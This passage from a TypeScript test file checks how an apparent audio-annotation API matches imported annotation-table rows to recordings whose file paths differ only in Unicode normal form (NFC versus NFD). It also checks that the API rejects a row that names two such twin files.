    await mkdir(join(dir.path, "Sité_B".normalize("NFD")));
    await writeSineWav(join(dir.path, nfc.normalize("NFD")), 8000, 4);
    const recording = (await post("/v1/recordings", { dataset_id: dataset, path: nfc.normalize("NFD") })).id;
    const byPath = await importText(`dataset_id=${dataset}`, [header, `1\tSpectrogram 1\t1\t1\t2\t${nfc}\t1\t${basename(nfc)}\t`].join("\n"));
    expect(byPath.statusCode, byPath.body).toBe(200);
    expect(byPath.json().rows[0].recording_id).toBe(recording);
    const byFile = await importText(`dataset_id=${dataset}`, ["Begin Time (s)\tEnd Time (s)\tBegin File", `2\t3\t${basename(nfc)}`].join("\n"));
    expect(byFile.statusCode, byFile.body).toBe(200);
    expect(byFile.json().rows[0].recording_id).toBe(recording);

    // The same name in both forms, two files on Linux: which one a table means cannot be told.
    await writeSineWav(join(dir.path, "Sité_B".normalize("NFD"), "twin é.wav"), 8000, 4);
    await writeSineWav(join(dir.path, "Sité_B".normalize("NFD"), "twin é.wav".normalize("NFD")), 8000, 4, 2000);
    await post("/v1/recordings", { dataset_id: dataset, path: `${"Sité_B".normalize("NFD")}/twin é.wav` });
    await post("/v1/recordings", { dataset_id: dataset, path: `Sité_B/twin é.wav`.normalize("NFD") });
    const twins = await importText(`dataset_id=${dataset}`, [header, `1\tSpectrogram 1\t1\t1\t2\tSité_B/twin é.wav\t1\ttwin é.wav\t`].join("\n"));
    expect(twins.statusCode, twins.body).toBe(400);
    expect(twins.json().fields).toEqual([{ field: "line 2, Begin Path", message: expect.stringMatching(/^'Sité_B\/twin é\.wav' names 2 recordings of the dataset whose paths differ only in their Unicode normal form \(.*\): rename one of the files/) }]);
  });
});
